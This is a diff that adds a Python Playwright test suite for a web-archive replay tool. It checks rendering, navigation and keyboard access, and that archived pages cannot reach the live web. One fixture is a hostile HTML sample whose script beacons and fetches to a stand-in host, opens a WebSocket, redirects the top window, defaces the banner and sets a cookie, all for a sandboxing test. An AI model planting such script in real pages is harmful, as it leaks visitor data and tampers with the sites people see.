@@ -1,0 +1,185 @@
+"""Snapshots in a real browser: what a reader sees, and what never leaves the archive."""
+
+import socket
+import threading
+from collections.abc import Iterator
+from contextlib import suppress
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import Browser, Frame, Page, Request, Response, sync_playwright
+
+import marsham
+from tests.builders import response, warc
+from tests.marsham.conftest import serving
+
+LANDING = "http://www.homeoffice.example/crime/partnerships/"
+ARGUMENTS = [
+    "--headless",
+    "--no-sandbox",
+    "--disable-gpu",
+    "--disable-quic",
+    "--no-first-run",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--disable-sync",
+]
+
+
+class LiveWeb:
+    """Stands for every host there is: it hears whatever the browser sends out."""
+
+    def __init__(self) -> None:
+        self.asked: list[bytes] = []
+        self.listener = socket.create_server(("127.0.0.1", 0))
+        self.port = self.listener.getsockname()[1]
+        threading.Thread(target=self._listen, daemon=True).start()
+
+    def _listen(self) -> None:
+        with suppress(OSError):  # closed when the tests are over
+            while True:
+                connection, _ = self.listener.accept()
+                with connection:
+                    connection.settimeout(2)
+                    self.asked.append(connection.recv(1000))
+                    connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
+
+
+@pytest.fixture(scope="module")
+def live_server() -> Iterator[LiveWeb]:
+    live = LiveWeb()
+    yield live
+    live.listener.shutdown(socket.SHUT_RDWR)
+    live.listener.close()
+
+
+@pytest.fixture
+def live_web(live_server: LiveWeb) -> LiveWeb:
+    live_server.asked.clear()
+    return live_server
+
+
+@pytest.fixture(scope="module")
+def browser(chromium: str, live_server: LiveWeb) -> Iterator[Browser]:
+    everywhere = f"--host-resolver-rules=MAP *.example 127.0.0.1:{live_server.port}"
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(
+            executable_path=chromium, args=[*ARGUMENTS, everywhere]
+        )
+        yield browser
+        browser.close()
+
+
+@dataclass
+class Visit:
+    """A page opened, and every request made while it was."""
+
+    page: Page
+    requests: list[str] = field(default_factory=list)
+    failures: list[str] = field(default_factory=list)
+
+    def note_request(self, request: Request) -> None:
+        self.requests.append(request.url)
+
+    def note_response(self, answer: Response) -> None:
+        if answer.status >= 400:
+            self.failures.append(f"{answer.status} {answer.url}")
+
+    def frame(self) -> Frame:
+        return self.page.frames[1]
+
+
+@pytest.fixture
+def visit(browser: Browser) -> Iterator[Visit]:
+    context = browser.new_context(viewport={"width": 1200, "height": 1000})
+    visit = Visit(context.new_page())
+    visit.page.on("request", visit.note_request)
+    visit.page.on("response", visit.note_response)
+    yield visit
+    context.close()
+
+
+@pytest.mark.parametrize("year", ["2009", "2011", "2013"])
+def test_a_snapshot_shows_banner_styles_and_images_and_nothing_leaves_the_archive(
+    year: str, server: str, visit: Visit
+) -> None:
+    visit.page.goto(f"{server}/web/{year}/{LANDING}", wait_until="networkidle")
+    assert visit.page.locator("section.banner").is_visible()
+    frame = visit.frame()
+    assert frame.locator("h1").first.is_visible()
+    images = frame.eval_on_selector_all("img", "all => all.map(one => one.naturalWidth)")
+    assert images
+    assert all(width > 0 for width in images)
+    sheets = [url for url in visit.requests if "cs_/" in url]
+    assert sheets
+    unstyled = '"Times New Roman"'  # what the browser takes when no style sheet arrives
+    assert frame.evaluate("getComputedStyle(document.body).fontFamily") != unstyled
+    assert [url for url in visit.requests if not url.startswith(f"{server}/")] == []
+    assert visit.failures == []
+    assert visit.page.context.cookies() == []
+
+
+def test_a_link_of_the_page_leads_to_the_next_snapshot_with_its_banner(
+    server: str, visit: Visit
+) -> None:
+    visit.page.goto(f"{server}/web/2011/{LANDING}", wait_until="networkidle")
+    visit.frame().locator("a", has_text="West Midlands").first.click()
+    visit.page.wait_for_url("**/directory/west-midlands/")
+    assert visit.page.locator("section.banner").is_visible()
+    assert visit.page.url.startswith(f"{server}/web/20110509")
+
+
+def test_the_look_up_works_by_keyboard_alone(server: str, visit: Visit) -> None:
+    visit.page.goto(server)
+    visit.page.keyboard.press("Tab")
+    assert visit.page.evaluate("document.activeElement.textContent") == "Skip to main content"
+    visit.page.locator("#url").focus()
+    visit.page.keyboard.type(LANDING)
+    visit.page.keyboard.press("Tab")
+    visit.page.keyboard.type("29/05/2011")
+    visit.page.keyboard.press("Enter")
+    visit.page.wait_for_url("**/web/20110529000000/**")
+
+
+def test_pages_of_our_own_fit_a_narrow_screen(server: str, visit: Visit) -> None:
+    visit.page.set_viewport_size({"width": 320, "height": 640})
+    for path in ("/", "/sites/www.homeoffice.example", f"/web/*/{LANDING}", f"/web/2011/{LANDING}"):
+        visit.page.goto(server + path)
+        width = visit.page.evaluate("document.documentElement.scrollWidth")
+        assert width <= 320, path
+
+
+HOSTILE = b"""<html><body><p id=p>Hostile</p><script>
+document.title = 'ran';
+new Image().src = 'http://live.example/leak.png';
+fetch('http://live.example/leak').catch(() => {});
+navigator.sendBeacon && navigator.sendBeacon('http://live.example/beacon', 'x');
+try { new WebSocket('ws://live.example/'); } catch (e) {}
+try { top.location = 'http://live.example/moved'; } catch (e) {}
+try { top.document.body.innerHTML = 'defaced'; } catch (e) {}
+try { document.cookie = 'stay=1'; } catch (e) {}
+</script><link rel=stylesheet href="http://live.example/leak.css"></body></html>"""
+
+
+def test_a_hostile_page_reaches_neither_the_live_web_nor_the_banner(
+    visit: Visit, live_web: LiveWeb, tmp_path: Path
+) -> None:
+    (tmp_path / "evil.warc.gz").write_bytes(warc(response(HOSTILE, url="http://evil.example/")))
+    with marsham.create_archive(tmp_path / "archive") as archive:
+        marsham.ingest(archive, [tmp_path / "evil.warc.gz"])
+        for server in serving(archive):
+            visit.page.goto(f"{server}/web/2011/http://evil.example/", wait_until="networkidle")
+            assert visit.frame().title() == "ran"
+            assert visit.frame().locator("#p").is_visible()
+            assert visit.page.locator("section.banner").is_visible()
+            assert visit.page.url.startswith(server)
+            assert visit.page.context.cookies() == []
+    assert live_web.asked == []
+
+
+def test_the_live_web_of_these_tests_hears_what_is_sent_to_it(
+    visit: Visit, live_web: LiveWeb
+) -> None:
+    visit.page.goto("http://live.example/")
+    assert live_web.asked[0].startswith(b"GET / HTTP/1.1")
